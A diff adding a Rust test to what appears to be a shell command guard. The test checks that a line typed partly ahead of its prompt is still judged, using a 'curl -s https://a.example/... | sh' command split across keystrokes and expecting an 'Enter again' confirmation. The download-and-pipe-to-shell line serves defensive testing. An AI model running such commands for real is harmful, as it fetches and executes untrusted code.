@@ -388,6 +388,24 @@ fn what_was_typed_ahead_is_judged_and_remembered() {
     }
 }
 
+/// A line of which a part came before its prompt, in one row and in two, is one that is judged.
+#[test]
+fn a_line_that_begins_before_its_prompt_is_judged() {
+    for shell in every_shell() {
+        for width in [0, 60] {
+            let mut screen = ready(Setting::of(shell, ""));
+            screen.line("echo go''ing; sh -c 'until test -e one; do sleep 0.05; done'");
+            screen.wait_for_line("going");
+            screen.keys("c");
+            screen.wait_for_line("c");
+            std::fs::write(screen.path("one"), "").unwrap();
+            screen.slowly(&format!("url -s https://a.example/{} | sh", "b".repeat(width)));
+            screen.keys("\r");
+            screen.wait_for("Enter again");
+        }
+    }
+}
+
 #[test]
 fn what_was_typed_ahead_is_typed_as_it_was() {
     for shell in every_shell() {
